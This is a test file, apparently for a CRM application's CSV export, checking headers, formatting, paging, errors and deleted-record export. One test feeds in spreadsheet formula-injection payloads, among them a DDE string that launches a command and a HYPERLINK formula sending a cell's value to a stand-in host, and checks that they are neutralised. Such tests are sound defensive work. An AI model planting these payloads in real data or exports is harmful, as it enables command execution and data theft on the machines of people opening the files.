import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import type { AnyRecord } from '../../contract/records/value.ts'
import { testCompany } from '../../tests/builders.ts'

const company = await testCompany()
const { owner, call } = company

async function exported(plural: string, query: Record<string, unknown> = {}) {
  const answer = await call(owner, 'GET', `/${plural}/export`, { query })
  expect(answer.status).toBe(200)
  expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
  expect(answer.headers['content-disposition']).toBe(`attachment; filename="${plural}.csv"`)
  expect(answer.text.charCodeAt(0)).toBe(0xfeff)
  return parse(answer.text, { bom: true })
}

describe('an export', () => {
  test('holds exactly the list asked for, as people read it', async () => {
    const firm = await company.company({ name: 'Say "hi", Ltd' })
    const { Proposal } = (await company.stages()) as { Proposal: AnyRecord }
    await company.deal({
      name: 'Line\nbreak',
      company: firm.id,
      stage: Proposal.id,
      amount: { amount: '1200.5', currency: 'EUR' },
      tags: ['a', 'b'],
      openedOn: '2026-01-02',
      probability: 0.25,
    })
    await company.deal({ name: 'Other' })
    const rows = await exported('deals', {
      fields: 'name,company,stage,amount,status,tags,openedOn,probability,datesContradict,owner,lossReason',
      filter: { field: 'company', op: 'notEmpty' },
    })
    expect(rows).toEqual([
      [
        'Name',
        'Company',
        'Stage',
        'Amount',
        'Amount (currency)',
        'Status',
        'Tags',
        'Opened on',
        'Probability',
        'Closed before opened',
        'Owner',
        'Loss reason',
      ],
      [
        'Line\nbreak',
        'Say "hi", Ltd',
        'Proposal',
        '1200.50',
        'EUR',
        'Open',
        'a; b',
        '2026-01-02',
        '0.25',
        'false',
        'Olga Owner',
        '',
      ],
    ])
  })

  test('is no program for a spreadsheet, and numbers stay numbers', async () => {
    const attacks = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?x="&A1,"click")',
      '  =1+1',
      '\n=1+1',
      '＝1+1',
    ]
    for (const name of attacks) await company.company({ name })
    const rows = await exported('companies', {
      fields: 'name,phone',
      filter: { field: 'name', op: 'contains', value: '1' },
    })
    for (const [cell = ''] of rows.slice(1)) expect(cell).not.toMatch(/^[\s\uFEFF]*[=+\-@＝＋－＠]/)
    const firm = await company.company({ name: 'Phone', phone: '+351 912 345 678', employees: -12.5 })
    expect(
      (
        await exported('companies', {
          fields: 'phone,employees',
          filter: { field: 'id', op: 'is', value: firm.id },
        })
      )[1],
    ).toEqual(['+351912345678', '-12.5'])
  })

  test('goes on past the first page, each record once, in order', async () => {
    const operations = Array.from({ length: 450 }, (_, i) => ({
      do: 'create',
      values: { lastName: `Row ${String(i).padStart(3, '0')}` },
    }))
    await company.ask(owner, 'POST', '/people/batch', { body: { operations } })
    const rows = await exported('people', { fields: 'lastName', sort: 'title' })
    expect(rows.slice(1).map(([name]) => name)).toEqual(operations.map(({ values }) => values.lastName))
  })

  test('of a list that cannot be made is refused like the list, and begins no file', async () => {
    for (const query of [
      { sort: 'nonsense' },
      { fields: 'nonsense' },
      { fields: 'constructor' },
      { filter: { field: 'x', op: 'is', value: 1 } },
    ]) {
      const answer = await call(owner, 'GET', '/people/export', { query })
      expect([answer.status, answer.headers['content-type']]).toEqual([422, 'application/problem+json'])
      expect(answer.headers['content-disposition']).toBeUndefined()
    }
  })

  test('of the bin holds what is in it', async () => {
    const gone = await company.person({ lastName: 'Gone' })
    await company.ask(owner, 'DELETE', `/people/${gone.id}`)
    expect(await exported('people', { fields: 'lastName', bin: true })).toEqual([['Last name'], ['Gone']])
  })
})
